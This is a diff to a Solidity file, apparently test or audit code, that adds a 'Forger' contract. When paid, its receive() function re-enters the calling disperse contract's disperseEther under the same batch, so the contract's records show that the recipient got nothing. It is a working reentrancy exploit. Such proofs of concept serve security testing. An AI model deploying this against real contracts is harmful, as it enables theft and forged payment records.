@@ -59,3 +59,32 @@ contract LongAnswer {
         }
     }
 }
+
+interface IDisperse {
+    function disperseEther(bytes32 batch, address[] calldata recipients, uint256[] calldata amounts)
+        external
+        payable;
+}
+
+/// Takes what it gets, and meanwhile has the contract say that it got nothing.
+contract Forger {
+    bytes32 public batch;
+    uint256 public amount;
+    bool private busy;
+
+    function prepare(bytes32 batch_, uint256 amount_) external {
+        batch = batch_;
+        amount = amount_;
+    }
+
+    receive() external payable {
+        require(!busy, 'again');
+        busy = true;
+        address[] memory recipients = new address[](1);
+        uint256[] memory amounts = new uint256[](1);
+        recipients[0] = address(this);
+        amounts[0] = amount;
+        IDisperse(msg.sender).disperseEther{value: amount}(batch, recipients, amounts);
+        busy = false;
+    }
+}
